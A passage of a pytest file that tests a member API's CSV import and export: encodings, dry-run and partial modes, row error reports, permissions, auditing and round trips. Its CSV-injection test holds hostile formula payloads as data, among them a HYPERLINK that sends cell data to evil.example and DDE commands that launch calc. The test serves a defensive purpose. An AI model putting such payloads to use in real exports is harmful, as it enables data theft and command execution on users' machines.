"""test_csv_import.py - members in and out as CSV: POST /v1/members/import (UTF-8, UTF-8 with BOM
and Shift_JIS files made the way Excel saves them, dry run, all-or-nothing and partial, upsert
by email, the row report) and GET /v1/members/export (UTF-8 with BOM, the list filters, the
CSV-injection guard, the audit row)."""

import csv
import datetime
import io
import json
import random
import re
import time
import uuid

import pytest

from harness import opened_row, unique_email
from test_members import assert_problem, outbox_types
from test_openapi import fetch, response_schema, validate

IMPORT = "/v1/members/import"
EXPORT = "/v1/members/export"
BOM = b"\xef\xbb\xbf"
JA_HEADER = ["メールアドレス", "氏名", "フリガナ", "電話番号", "生年月日", "郵便番号", "都道府県",
             "住所", "ランク", "タグ", "メモ", "メール配信"]
EXPORT_JA = ["会員ID", "メールアドレス", "氏名", "フリガナ", "電話番号", "生年月日", "郵便番号",
             "都道府県", "住所", "ランク", "状態", "タグ", "メモ", "メール配信", "カスタム属性",
             "登録日時", "更新日時", "退会日時"]
EXPORT_EN = ["id", "email", "name", "name_kana", "phone", "birthday", "postal_code", "prefecture",
             "address", "rank", "status", "tags", "note", "email_opt_in", "attributes",
             "created_at", "updated_at", "withdrawn_at"]
REPORT_KEYS = {"charset", "dry_run", "applied", "rows", "created", "updated", "unchanged", "rejected",
               "errors"}
LONG = (3.0, 60.0)


# ------------------------------------------------------------------ files as Excel writes them

def excel_field(value):
    """One cell as Excel's "CSV" writes it: quoted only when it holds , " CR or LF."""
    value = str(value)
    if any(c in value for c in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value


def excel_csv(rows, encoding="cp932", bom=False, newline="\r\n"):
    """rows (lists of cells, the header first) → the bytes of a file Excel would save:
    CRLF between records, cp932 (「CSV (コンマ区切り)」) or UTF-8 (「CSV UTF-8」, with BOM)."""
    text = "".join(",".join(excel_field(c) for c in row) + newline for row in rows)
    return (BOM if bom else b"") + text.encode(encoding)


def ja_row(email, **cells):
    """A data row under JA_HEADER; cells by English key (name, phone, tags, note, opt_in ...)."""
    keys = ["email", "name", "name_kana", "phone", "birthday", "postal_code", "prefecture",
            "address", "rank", "tags", "note", "opt_in"]
    return [email] + [cells.get(k, "") for k in keys[1:]]


def post_csv(client, data, content_type="text/csv", timeout=(3.0, 20.0), **params):
    return client.request("POST", IMPORT, data=data, headers={"Content-Type": content_type},
                          params=params, timeout=timeout)


def report_of(r, status=200):
    """The import report of a 200 (or, with status=422, of the import-refused problem)."""
    assert r.status_code == status, (r.status_code, r.text)
    if status == 422:
        body = assert_import_refused(r)
    else:
        assert r.headers["Content-Type"].startswith("application/json"), r.headers
        body = r.json()
        assert set(body) == REPORT_KEYS, body
    for e in body["errors"]:
        assert set(e) == {"row", "column", "code", "reason"}, e
        assert isinstance(e["row"], int) and e["reason"], e
        assert re.fullmatch(r"[a-z][a-z0-9_]{0,46}", e["code"]), e     # as docs/errors.md says
    return body


def assert_import_refused(r):
    assert r.status_code == 422, (r.status_code, r.text)
    assert r.headers["Content-Type"].startswith("application/problem+json"), r.headers
    body = r.json()
    assert body["type"] == "/problems/import-refused", body
    assert body["status"] == 422 and body["title"] and isinstance(body["detail"], str), body
    assert body["instance"] == IMPORT, body
    assert body["request_id"] == r.headers.get("X-Request-Id"), body
    assert REPORT_KEYS <= set(body), body
    assert body["applied"] is False and body["dry_run"] is False, body
    return body


def errors_of(body):
    return [(e["row"], e["column"]) for e in body["errors"]]


def count(suite, table, where="true"):
    return int(suite.sql("select count(*) from %s where %s" % (table, where))[0][0])


def totals(suite):
    """Rows in the tables an import writes."""
    return {t: count(suite, t) for t in ("member.members", "member.outbox", "member.audit_log",
                                         "member.member_tags")}


def same_instant(exported, api):
    """An export's time in Japan ("…+09:00") and the API's ("…Z") name the same instant."""
    return datetime.datetime.fromisoformat(exported) == \
        datetime.datetime.fromisoformat(api.replace("Z", "+00:00"))


def member_row(suite, email, columns):
    rows = suite.sql("select id, %s from member.members where lower(email) = lower('%s')"
                     % (", ".join(columns), email))
    assert len(rows) <= 1
    return opened_row(suite, rows[0][0], dict(zip(columns, rows[0][1:]))) if rows else None


def member_tags(suite, email):
    rows = suite.sql("select t.tag from member.member_tags t join member.members m on m.seq = "
                     "t.member_seq where lower(m.email) = lower('%s') order by t.tag" % email)
    return [r[0] for r in rows]


def member_id(suite, email):
    return member_row(suite, email, ["id"])["id"]


def exists(suite, email):
    return member_row(suite, email, ["id"]) is not None


def read_export(r):
    """A 200 export → (header, rows as dicts) after checking the BOM and the headers."""
    assert r.status_code == 200, (r.status_code, r.text)
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8", r.headers
    assert r.content.startswith(BOM), r.content[:20]
    text = r.content[3:].decode("utf-8")
    assert text.endswith("\r\n")
    table = list(csv.reader(io.StringIO(text, newline="")))
    header, rows = table[0], table[1:]
    assert r.headers["X-Total-Count"] == str(len(rows)), (r.headers, len(rows))
    return header, [dict(zip(header, row)) for row in rows]


@pytest.fixture(scope="module")
def sessions(suite):
    """Session clients for an admin, a support, a marketing and a viewer account."""
    out = {}
    for role in ("admin", "support", "marketing", "viewer"):
        staff, password = suite.create_staff(role)
        out[role] = suite.client_as(suite.login(staff["email"], password))
    return out


@pytest.fixture(scope="module")
def spec(suite):
    return fetch(suite.client)


def tag():
    return "csv" + uuid.uuid4().hex[:10]


# ------------------------------------------------------------------ charsets and Excel's quoting

def test_shift_jis_file_as_excel_saves_it(suite, client):
    """cp932 bytes with CRLF, CP932-only characters (髙, ①), quoted commas and a note whose
    quoted cell holds line breaks and quotes: every cell arrives as written."""
    emails = [unique_email("sjis") for _ in range(3)]
    note = '一行目\n二行目, "引用"付き\n三行目①'
    rows = [JA_HEADER,
            ja_row(emails[0], name="髙橋 ①子", name_kana="タカハシ イチコ", phone="090-1111-2222",
                   birthday="1985-12-31", postal_code="1500001", prefecture="東京都",
                   address="渋谷区神宮前1-2-3, 髙島ビル①号室", rank="premium", note=note,
                   opt_in="はい"),
            ja_row(emails[1], name="﨑山 次郎", note="短いメモ", opt_in="いいえ"),
            ja_row(emails[2], name="Smith, John", tags="VIP、東京;紹介")]
    data = excel_csv(rows)
    assert b"\r\n" in data and "髙".encode("cp932") in data and "①".encode("cp932") in data
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")                                  # really not UTF-8
    r = post_csv(client, data)
    body = report_of(r)
    assert body == {"charset": "cp932", "dry_run": False, "applied": True, "rows": 3,
                    "created": 3, "updated": 0, "unchanged": 0, "rejected": 0, "errors": []}
    first = member_row(suite, emails[0], ["name", "name_kana", "phone", "birthday", "postal_code",
                                          "prefecture", "address", "rank",
                                          "replace(note, chr(10), '|')", "consent_opt_in",
                                          "consent_method", "consent_source"])
    assert first == {"name": "髙橋 ①子", "name_kana": "タカハシ イチコ", "phone": "090-1111-2222",
                     "birthday": "1985-12-31", "postal_code": "150-0001", "prefecture": "東京都",
                     "address": "渋谷区神宮前1-2-3, 髙島ビル①号室", "rank": "premium",
                     "replace(note, chr(10), '|')": '一行目|二行目, "引用"付き|三行目①',
                     "consent_opt_in": "t", "consent_method": "import",
                     "consent_source": "CSV import"}
    m = client.get("/v1/members/" + member_id(suite, emails[0])).json()
    assert m["note"] == note and m["name"] == "髙橋 ①子"
    assert m["marketing_consent"]["email_opt_in"] is True
    assert m["marketing_consent"]["method"] == "import"
    assert member_row(suite, emails[1], ["name", "consent_opt_in"]) == \
        {"name": "﨑山 次郎", "consent_opt_in": "f"}
    assert member_row(suite, emails[2], ["name", "consent_opt_in"]) == \
        {"name": "Smith, John", "consent_opt_in": None}         # no cell: no consent recorded
    assert member_tags(suite, emails[2]) == sorted(["VIP", "東京", "紹介"])


def test_utf8_bom_file(suite, client):
    """「CSV UTF-8」: a BOM, then UTF-8; the BOM is not part of the first header."""
    email = unique_email("bom")
    data = excel_csv([["メールアドレス", "氏名", "フリガナ", "メール配信"],
                      [email, "髙橋 ①", "タカハシ", "○"]], encoding="utf-8", bom=True)
    body = report_of(post_csv(client, data))
    assert (body["charset"], body["created"], body["rejected"], body["errors"]) == \
        ("utf-8-bom", 1, 0, [])
    assert member_row(suite, email, ["name", "name_kana", "consent_opt_in"]) == \
        {"name": "髙橋 ①", "name_kana": "タカハシ", "consent_opt_in": "t"}


def test_plain_utf8_english_headers_tags_and_consent(suite, client):
    """UTF-8 without BOM, English headers in any case, LF line ends; tags split on , ; 、 and
    consent from yes/no/1/0/×: tags, consent, events and audit rows as a POST would write them."""
    t1, t2 = tag(), tag()
    emails = [unique_email("en") for _ in range(4)]
    data = excel_csv([["Email", "name", "NAME_KANA", "phone", "tags", "email_opt_in"],
                      [emails[0], "Taro", "タロウ", "03-1234-5678", "%s, %s" % (t1, t2), "yes"],
                      [emails[1], "Jiro", "", "", "%s;%s" % (t1, t2), "0"],
                      [emails[2], "Saburo", "", "", t1, "1"],
                      [emails[3], "Shiro", "", "", "", "×"]], encoding="utf-8", newline="\n")
    body = report_of(post_csv(client, data, content_type="text/plain; charset=utf-8"))
    assert (body["charset"], body["created"], body["updated"], body["rejected"]) == \
        ("utf-8", 4, 0, 0)
    assert member_tags(suite, emails[0]) == sorted([t1, t2])
    assert member_tags(suite, emails[1]) == sorted([t1, t2])
    assert member_tags(suite, emails[2]) == [t1]
    assert member_tags(suite, emails[3]) == []
    consent = ["consent_opt_in", "consent_method", "consent_source", "consent_at is not null"]
    assert member_row(suite, emails[0], consent) == \
        dict(zip(consent, ["t", "import", "CSV import", "t"]))
    assert member_row(suite, emails[1], consent)["consent_opt_in"] == "f"
    assert member_row(suite, emails[2], consent)["consent_opt_in"] == "t"
    assert member_row(suite, emails[3], consent)["consent_opt_in"] == "f"
    # each member: registered (+ tagged when it has tags), audited like a POST
    for email, tags in zip(emails, (2, 2, 1, 0)):
        mid = member_id(suite, email)
        assert outbox_types(suite, mid) == ["member.registered"] + ["member.tagged"] * tags
        actions = [r[0] for r in suite.sql("select action from member.audit_log where target_id = "
                                           "'%s' order by seq" % mid)]
        assert actions[0] == "member.registered", actions
    listed = client.get("/v1/members", params={"tag": t1}).json()["data"]
    assert sorted(m["email"] for m in listed) == sorted(emails[:3])


def test_import_writes_one_audit_row_for_the_file(suite, client):
    """One member.imported audit row per applied import, with the counts; actor = the caller."""
    before = count(suite, "member.audit_log", "action = 'member.imported'")
    emails = [unique_email("aud") for _ in range(2)]
    body = report_of(post_csv(client, excel_csv([JA_HEADER] + [ja_row(e, name="監査") for e in emails])))
    assert body["created"] == 2
    rows = suite.sql("select actor_id, actor_role, target_type, changes from member.audit_log "
                     "where action = 'member.imported' order by seq desc limit 1")
    assert count(suite, "member.audit_log", "action = 'member.imported'") == before + 1
    actor_id, actor_role, target_type, changes = rows[0]
    assert (actor_id, actor_role, target_type) == ("bootstrap", "owner", "import")
    assert json.loads(changes) == {"rows": 2, "created": 2, "updated": 0, "unchanged": 0, "rejected": 0}
    for e in emails:
        mid = member_id(suite, e)
        assert count(suite, "member.audit_log", "target_id = '%s' and action = 'member.registered'"
                     " and actor_id = 'bootstrap'" % mid) == 1
        assert count(suite, "member.outbox", "aggregate_id::text = '%s' and type = "
                     "'member.registered'" % mid) == 1


# ------------------------------------------------------------------ dry run, all-or-nothing, partial

def test_dry_run_changes_nothing(suite, client):
    existing = client.create_member(name="既存")
    new = [unique_email("dry") for _ in range(2)]
    data = excel_csv([JA_HEADER, ja_row(new[0], name="新規", tags=tag()),
                      ja_row(existing["email"].upper(), name="変更"),
                      ja_row(new[1], birthday="1990-02-30")])
    before = totals(suite)
    body = report_of(post_csv(client, data, dry_run="true"))
    assert body == {"charset": "cp932", "dry_run": True, "applied": False, "rows": 3, "created": 1,
                    "updated": 1, "unchanged": 0, "rejected": 1,
                    "errors": [{"row": 4, "column": "生年月日", "code": "invalid_date",
                                "reason": body["errors"][0]["reason"]}]}
    assert totals(suite) == before
    assert not exists(suite, new[0]) and not exists(suite, new[1])
    assert member_row(suite, existing["email"], ["name"]) == {"name": "既存"}
    # a clean dry run, partial or not: still nothing
    data = excel_csv([JA_HEADER, ja_row(new[0], name="新規")])
    for mode in ("all_or_nothing", "partial"):
        body = report_of(post_csv(client, data, dry_run="true", mode=mode))
        assert (body["applied"], body["created"], body["errors"]) == (False, 1, [])
    assert totals(suite) == before
    # dry_run=false is the ordinary import
    body = report_of(post_csv(client, data, dry_run="false"))
    assert (body["dry_run"], body["applied"], body["created"]) == (False, True, 1)
    assert exists(suite, new[0])


def test_all_or_nothing_is_the_default_one_bad_row_refuses_the_file(suite, client):
    existing = client.create_member(name="変わらない")
    good = [unique_email("aon") for _ in range(3)]
    data = excel_csv([JA_HEADER, ja_row(good[0], name="一"), ja_row(existing["email"], name="二"),
                      ja_row(good[1], postal_code="12-34567"), ja_row(good[2], name="四")])
    before = totals(suite)
    for params in ({}, {"mode": "all_or_nothing"}):
        body = report_of(post_csv(client, data, **params), status=422)
        assert (body["rows"], body["created"], body["updated"], body["rejected"]) == (4, 2, 1, 1)
        assert errors_of(body) == [(4, "郵便番号")], body
        assert totals(suite) == before
    for e in good:
        assert not exists(suite, e)
    assert member_row(suite, existing["email"], ["name", "version"]) == \
        {"name": "変わらない", "version": "1"}


def test_partial_writes_good_rows_and_reports_each_bad_one(suite, client):
    """Row numbers are a spreadsheet's: the header is row 1 and a record whose quoted note
    spans three lines is one row, so the bad rows after it keep their numbers."""
    emails = [unique_email("part") for _ in range(6)]
    rows = [JA_HEADER,
            ja_row(emails[0], name="良い", note="複数行の\nメモ\n三行目"),     # row 2
            ja_row(emails[1], birthday="1990-02-30"),                          # row 3: bad date
            ja_row("not-an-email", name="悪い"),                                # row 4: bad email
            ja_row(emails[2], name="良い二", phone="03-1234-5678"),             # row 5
            ja_row(emails[3], prefecture="東京府", opt_in="たぶん"),            # row 6: two bad cells
            [emails[4], "列が足りない"],                                          # row 7: 2 fields
            ja_row(emails[5], address="一行目\n二行目")]                        # row 8: address break
    before = count(suite, "member.members")
    body = report_of(post_csv(client, excel_csv(rows), mode="partial"))
    assert (body["applied"], body["rows"], body["created"], body["updated"], body["rejected"]) == \
        (True, 7, 2, 0, 5), body
    by_row = {}
    for e in body["errors"]:
        by_row.setdefault(e["row"], []).append(e)
    assert sorted(by_row) == [3, 4, 6, 7, 8], body
    assert [e["column"] for e in by_row[3]] == ["生年月日"]
    assert [e["column"] for e in by_row[4]] == ["メールアドレス"]
    assert sorted(e["column"] for e in by_row[6]) == sorted(["都道府県", "メール配信"])
    assert by_row[7] == [{"row": 7, "column": "", "code": "has_fields_where_header_has",
                         "reason": "has 2 fields where the header has 12"}]
    assert [e["column"] for e in by_row[8]] == ["住所"]
    assert [e["row"] for e in body["errors"]] == sorted(e["row"] for e in body["errors"])
    assert count(suite, "member.members") == before + 2
    assert exists(suite, emails[0]) and exists(suite, emails[2])
    for e in (emails[1], emails[3], emails[4], emails[5]):
        assert not exists(suite, e)
    assert member_row(suite, emails[0], ["replace(note, chr(10), '|')"]) == \
        {"replace(note, chr(10), '|')": "複数行の|メモ|三行目"}


def test_duplicate_email_in_the_file_rejects_the_later_row(suite, client):
    a, b = unique_email("dup"), unique_email("dup")
    data = excel_csv([JA_HEADER, ja_row(a, name="最初"), ja_row(b, name="別人"),
                      ja_row(a.upper(), name="二回目"), ja_row(a, name="三回目")])
    body = report_of(post_csv(client, data), status=422)
    assert sorted(errors_of(body)) == [(4, "メールアドレス"), (5, "メールアドレス")], body
    assert all(e["reason"] == "repeats the email of row 2" for e in body["errors"]), body
    assert not exists(suite, a) and not exists(suite, b)
    body = report_of(post_csv(client, data, mode="partial"))
    assert (body["created"], body["rejected"]) == (2, 2)
    assert member_row(suite, a, ["name"]) == {"name": "最初"}
    assert count(suite, "member.members", "lower(email) = lower('%s')" % a) == 1


def test_existing_member_updated_empty_cells_keep_values(suite, client):
    m = client.create_member(name="元の名前", name_kana="モトノ", phone="090-0000-1111",
                             address="港区1-1", note="残すメモ", rank="basic")
    t = tag()
    data = excel_csv([JA_HEADER, ja_row(m["email"].upper(), name="新しい名前", rank="premium",
                                        tags=t, opt_in="はい")])
    body = report_of(post_csv(client, data))
    assert (body["created"], body["updated"], body["rejected"]) == (0, 1, 0)
    row = member_row(suite, m["email"], ["email", "name", "name_kana", "phone", "address", "note",
                                         "rank", "consent_opt_in", "version"])
    assert row == {"email": m["email"], "name": "新しい名前", "name_kana": "モトノ",
                   "phone": "090-0000-1111", "address": "港区1-1", "note": "残すメモ",
                   "rank": "premium", "consent_opt_in": "t", "version": row["version"]}
    assert int(row["version"]) > 1
    assert member_tags(suite, m["email"]) == [t]
    assert outbox_types(suite, m["id"]) == ["member.registered", "member.updated", "member.tagged"]
    changes = [json.loads(r[0]) for r in suite.sql(
        "select changes from member.audit_log where target_id = '%s' and action = 'member.updated'"
        % m["id"])]
    assert len(changes) == 1
    assert changes[0]["name"] == ["元の名前", "新しい名前"] and changes[0]["rank"] == ["basic", "premium"]
    assert "phone" not in changes[0] and "note" not in changes[0] and "email" not in changes[0]


# ------------------------------------------------------------------ files that are wrong as a whole

def test_empty_file(suite, client):
    before = totals(suite)
    for data in (b"", b"\r\n\r\n"):
        body = report_of(post_csv(client, data), status=422)
        assert body["errors"] == [{"row": 1, "column": "", "code": "file_is_empty",
                                   "reason": "the file is empty"}], body
        assert (body["rows"], body["created"], body["updated"]) == (0, 0, 0)
    body = report_of(post_csv(client, b"", dry_run="true"))
    assert body["errors"] == [{"row": 1, "column": "", "code": "file_is_empty", "reason": "the file is empty"}]
    assert totals(suite) == before


def test_header_only_file(suite, client):
    """A header and no rows: nothing to import, reported on row 1; no member written."""
    before = count(suite, "member.members")
    # refused (422) when it would apply, all or nothing or partly; a dry run reports (200)
    for params, status in (({}, 422), ({"dry_run": "true"}, 200), ({"mode": "partial"}, 422)):
        r = post_csv(client, excel_csv([JA_HEADER]), **params)
        assert r.status_code == status, (params, r.text)
        body = r.json()
        assert (body["rows"], body["created"], body["updated"], body["rejected"]) == (0, 0, 0, 0)
        assert body["errors"] == [{"row": 1, "column": "", "code": "file_has_header_but_no_rows",
                                   "reason": "the file has a header but no rows"}], body
    assert count(suite, "member.members") == before


def test_header_only_file_is_not_applied(suite, client):
    before = count(suite, "member.audit_log", "action = 'member.imported'")
    r = post_csv(client, excel_csv([JA_HEADER]))
    assert r.json()["applied"] is False, (r.status_code, r.text)
    assert count(suite, "member.audit_log", "action = 'member.imported'") == before


def test_unknown_and_repeated_columns_and_no_email_column(suite, client):
    email = unique_email("col")
    data = excel_csv([["メールアドレス", "氏名", "会社名"], [email, "名前", "株式会社カイイン"]])
    body = report_of(post_csv(client, data), status=422)
    assert errors_of(body) == [(1, "会社名")], body
    assert "会社名" in body["errors"][0]["reason"]
    assert report_of(post_csv(client, data, mode="partial"), status=422)["errors"] == body["errors"]
    assert report_of(post_csv(client, data, dry_run="true"))["errors"] == body["errors"]
    assert not exists(suite, email)
    body = report_of(post_csv(client, excel_csv([["email", "メールアドレス"], [email, email]])),
                     status=422)
    assert errors_of(body) == [(1, "メールアドレス")]
    body = report_of(post_csv(client, excel_csv([["氏名"], ["名前だけ"]])), status=422)
    assert errors_of(body) == [(1, "")] and "email" in body["errors"][0]["reason"]
    # full-width parentheses and spaces in a header are read as half-width / ignored
    body = report_of(post_csv(client, excel_csv([[" メールアドレス ", "氏名（カナ）"], [email, "カナ"]])))
    assert (body["created"], body["errors"]) == (1, [])
    assert member_row(suite, email, ["name_kana"]) == {"name_kana": "カナ"}


def test_unclosed_quote_and_non_text_file(suite, client):
    email = unique_email("quote")
    data = excel_csv([JA_HEADER, ja_row(email)]) + b'"' + unique_email().encode() + b',unclosed\r\n'
    body = report_of(post_csv(client, data, mode="partial"))
    assert (body["created"], body["rejected"]) == (1, 1)
    assert body["errors"] == [{"row": 3, "column": "", "code": "quoted_field_is_never_closed",
                               "reason": "a quoted field is never closed"}]
    body = report_of(post_csv(client, b"\xef\xbb\xbf\xff\xfe\x00binary"), status=422)
    assert errors_of(body) == [(1, "")], body


@pytest.mark.parametrize("content_type", ["text/csv", "text/csv; charset=shift_jis", "application/csv",
                                          "application/vnd.ms-excel", "application/octet-stream",
                                          "text/plain"])
def test_accepted_content_types(client, content_type):
    data = excel_csv([JA_HEADER, ja_row(unique_email("ct"))])
    body = report_of(post_csv(client, data, content_type=content_type, dry_run="true"))
    assert body["created"] == 1


def test_json_content_type_and_bad_parameters(suite, client):
    data = excel_csv([JA_HEADER, ja_row(unique_email("415"))])
    before = totals(suite)
    for content_type in ("application/json", "multipart/form-data; boundary=x", None):
        assert_problem(post_csv(client, data, content_type=content_type), 415,
                       "unsupported-media-type")
    for params, field in (({"dry_run": "yes"}, "dry_run"), ({"mode": "some"}, "mode"),
                          ({"limit": "5"}, "limit")):
        b = assert_problem(post_csv(client, data, **params), 400, "invalid-request")
        assert [e["field"] for e in b["errors"]] == [field], b
    assert totals(suite) == before


# ------------------------------------------------------------------ who may import and export

def test_permissions(suite, client, sessions):
    email = unique_email("perm")
    data = excel_csv([JA_HEADER, ja_row(email)])
    before = totals(suite)
    for role in ("support", "marketing", "viewer"):
        assert_problem(post_csv(sessions[role], data), 403, "forbidden")
    for role in ("support", "viewer"):
        assert_problem(sessions[role].get(EXPORT, params={"q": "nobody"}), 403, "forbidden")
    assert totals(suite) == before                        # a 403 leaves no audit row either
    r = sessions["marketing"].get(EXPORT, params={"q": "nobody-" + uuid.uuid4().hex})
    header, rows = read_export(r)
    assert header == EXPORT_JA and rows == []
    body = report_of(post_csv(sessions["admin"], data))
    assert body["created"] == 1
    mid = member_id(suite, email)
    assert suite.sql("select actor_role from member.audit_log where target_id = '%s'" % mid) == \
        [["admin"]]
    header, rows = read_export(sessions["admin"].get(EXPORT, params={"q": email}))
    assert [r["会員ID"] for r in rows] == [mid]


# ------------------------------------------------------------------ export

def test_export_bom_headers_and_filters(suite, client):
    t = tag()
    emails = [unique_email("exp") for _ in range(3)]
    data = excel_csv([JA_HEADER,
                      ja_row(emails[0], name="輸出 一", name_kana="ユシュツ イチ", phone="090-1234-5678",
                             birthday="1990-04-01", postal_code="150-0001", prefecture="東京都",
                             address="渋谷区1-2", rank="premium", tags=t + ";b" + t, note="メモ\n二行",
                             opt_in="はい"),
                      ja_row(emails[1], name="輸出 二", tags=t),
                      ja_row(emails[2], name="輸出 三")])
    assert report_of(post_csv(client, data))["created"] == 3
    client.post("/v1/members/%s/withdraw" % member_id(suite, emails[1]), {"reason": "test"})
    r = client.get(EXPORT, params={"tag": t})
    header, rows = read_export(r)
    assert header == EXPORT_JA
    assert sorted(x["メールアドレス"] for x in rows) == sorted(emails[:2])
    assert re.fullmatch(r'attachment; filename="members-\d{8}\.csv"',
                        r.headers["Content-Disposition"]), r.headers
    day = re.search(r"members-(\d{8})", r.headers["Content-Disposition"]).group(1)
    assert day in (time.strftime("%Y%m%d", time.gmtime(time.time() + 9 * 3600 - 60)),
                   time.strftime("%Y%m%d", time.gmtime(time.time() + 9 * 3600)))  # the day in Japan
    first = next(x for x in rows if x["メールアドレス"] == emails[0])
    m = client.get("/v1/members/" + first["会員ID"]).json()
    assert {k: first[k] for k in EXPORT_JA[:14]} == {
        "会員ID": m["id"], "メールアドレス": emails[0], "氏名": "輸出 一", "フリガナ": "ユシュツ イチ",
        "電話番号": "090-1234-5678", "生年月日": "1990-04-01", "郵便番号": "150-0001",
        "都道府県": "東京都", "住所": "渋谷区1-2", "ランク": "premium", "状態": "無料会員",
        "タグ": ";".join(m["tags"]), "メモ": "メモ\n二行", "メール配信": "はい"}
    assert sorted(first["タグ"].split(";")) == sorted([t, "b" + t])
    assert same_instant(first["登録日時"], m["created_at"]) and first["登録日時"].endswith("+09:00")
    assert same_instant(first["更新日時"], m["updated_at"])
    assert first["退会日時"] == ""
    second = next(x for x in rows if x["メールアドレス"] == emails[1])
    assert second["状態"] == "退会済み" and second["退会日時"]
    # the other filters of GET /v1/members
    assert [x["メールアドレス"] for x in read_export(client.get(
        EXPORT, params={"tag": t, "status": "free"}))[1]] == [emails[0]]
    assert [x["メールアドレス"] for x in read_export(client.get(
        EXPORT, params={"tag": t, "rank": "premium"}))[1]] == [emails[0]]
    assert [x["メールアドレス"] for x in read_export(client.get(
        EXPORT, params={"tag": [t, "b" + t], "tags_mode": "all"}))[1]] == [emails[0]]
    assert [x["メールアドレス"] for x in read_export(client.get(
        EXPORT, params={"q": "ゆしゅつ", "tag": t, "sort": "-name_kana"}))[1]] == [emails[0]]
    assert read_export(client.get(EXPORT, params={"q": emails[2]}))[1][0]["メールアドレス"] == emails[2]
    assert read_export(client.get(EXPORT, params={"tag": t, "created_to": "2000-01-01T00:00:00Z"}))[1] == []
    # English headers
    header, rows = read_export(client.get(EXPORT, params={"tag": t, "headers": "en"}))
    assert header == EXPORT_EN
    assert sorted(x["email"] for x in rows) == sorted(emails[:2])
    header, rows = read_export(client.get(EXPORT, params={"tag": t, "headers": "ja"}))
    assert header == EXPORT_JA
    # parameters of the listing that make no sense for a file, and bad values
    for params, field in (({"limit": "10"}, "limit"), ({"cursor": "x"}, "cursor"),
                          ({"headers": "fr"}, "headers"), ({"status": "gold"}, "status"),
                          ({"sort": "email"}, "sort"), ({"format": "xlsx"}, "format")):
        b = assert_problem(client.get(EXPORT, params=params), 400, "invalid-request")
        assert field in [e["field"] for e in b["errors"]], (params, b)


def test_export_audit_row(suite, client, sessions):
    t = tag()
    data = excel_csv([JA_HEADER] + [ja_row(unique_email("expa"), tags=t) for _ in range(3)])
    assert report_of(post_csv(client, data))["created"] == 3
    before = count(suite, "member.audit_log", "action = 'member.exported'")
    r = sessions["marketing"].get(EXPORT, params={"tag": t, "q": "expa"})
    assert read_export(r)[1] and r.headers["X-Total-Count"] == "3"
    assert count(suite, "member.audit_log", "action = 'member.exported'") == before + 1
    actor, role, target_type, changes, request_id = suite.sql(
        "select actor_id, actor_role, target_type, changes, request_id from member.audit_log "
        "where action = 'member.exported' order by seq desc limit 1")[0]
    assert role == "marketing" and target_type == "export" and actor != "bootstrap"
    changes = json.loads(changes)
    assert changes["count"] == 3 and changes["q"] == "expa", changes
    assert request_id == r.headers["X-Request-Id"]
    # an export of nothing is recorded too
    r = client.get(EXPORT, params={"q": "nobody-" + uuid.uuid4().hex})
    assert read_export(r)[1] == []
    assert count(suite, "member.audit_log", "action = 'member.exported'") == before + 2


def test_export_guards_against_csv_injection(suite, client):
    """Cells a spreadsheet would run as formulas are written quoted with a leading '."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    m = client.create_member(name="@SUM(1+1)", note=formula, phone="+81-90-1234-5678",
                             address="-1-2 番地", name_kana="ータ")
    evil = client.create_member(name="+cmd|' /C calc'!A0", note="-2+3+cmd|' /C calc'!A0")
    for member in (m, evil):
        r = client.get(EXPORT, params={"email": member["email"]})
        assert r.status_code == 200, r.text
    raw = client.get(EXPORT, params={"email": m["email"]}).content.decode("utf-8-sig")
    line = raw.split("\r\n")[1]
    assert ',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",' in line, line
    assert ',"\'@SUM(1+1)",' in line, line
    rows = read_export(client.get(EXPORT, params={"email": m["email"]}))[1]
    assert rows[0]["メモ"] == "'" + formula and rows[0]["氏名"] == "'@SUM(1+1)"
    assert rows[0]["電話番号"] == "'+81-90-1234-5678"             # Excel would add it up
    assert rows[0]["住所"] == "'-1-2 番地"
    rows = read_export(client.get(EXPORT, params={"email": evil["email"]}))[1]
    assert rows[0]["氏名"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["メモ"] == "'-2+3+cmd|' /C calc'!A0"
    # the stored values are untouched
    assert client.get("/v1/members/" + m["id"]).json()["note"] == formula


def test_export_round_trips_through_import(suite, client):
    t = tag()
    data = excel_csv([JA_HEADER,
                      ja_row(unique_email("rt"), name="髙橋 往復", name_kana="タカハシ",
                             phone="090-1234-5678", birthday="1980-01-02", postal_code="100-0001",
                             prefecture="東京都", address="千代田区1, 2", rank="premium",
                             tags=t, note="一\n二", opt_in="いいえ"),
                      ja_row(unique_email("rt"), name="往復 二", tags=t)])
    assert report_of(post_csv(client, data))["created"] == 2
    before = [client.get("/v1/members/" + x["会員ID"]).json()
              for x in read_export(client.get(EXPORT, params={"tag": t}))[1]]
    exported = client.get(EXPORT, params={"tag": t}).content
    body = report_of(post_csv(client, exported))
    assert body["charset"] == "utf-8-bom" and body["errors"] == [], body
    assert (body["rows"], body["unchanged"], body["created"], body["rejected"]) == (2, 2, 0, 0)
    for m in before:
        after = client.get("/v1/members/" + m["id"]).json()
        for k in ("email", "name", "name_kana", "phone", "birthday", "postal_code", "prefecture",
                  "address", "rank", "tags", "note"):
            assert after[k] == m[k], (k, m[k], after[k])
    # the English export reads back too
    exported = client.get(EXPORT, params={"tag": t, "headers": "en"}).content
    body = report_of(post_csv(client, exported, dry_run="true"))
    assert (body["unchanged"], body["rejected"]) == (2, 0), body


def test_reimport_of_tags_the_member_has(suite, client):
    email = unique_email("retag")
    data = excel_csv([JA_HEADER, ja_row(email, name="一回目", tags="VIP")])
    assert report_of(post_csv(client, data))["created"] == 1
    data = excel_csv([JA_HEADER, ja_row(email, name="二回目", tags="VIP")])
    body = report_of(post_csv(client, data))
    assert (body["updated"], body["errors"]) == (1, [])
    assert member_row(suite, email, ["name"]) == {"name": "二回目"}


def test_unknown_rank_is_a_rejected_row(suite, client):
    good, bad = unique_email("rank"), unique_email("rank")
    data = excel_csv([JA_HEADER, ja_row(good), ja_row(bad, rank="gold")])
    body = report_of(post_csv(client, data, mode="partial"))
    assert (body["created"], body["rejected"]) == (1, 1)
    assert errors_of(body) == [(3, "ランク")]
    assert exists(suite, good) and not exists(suite, bad)


def test_export_round_trips_through_import_with_the_import_columns(suite, client):
    """The columns the import knows, taken from an export, come back as every row unchanged."""
    t = tag()
    data = excel_csv([JA_HEADER,
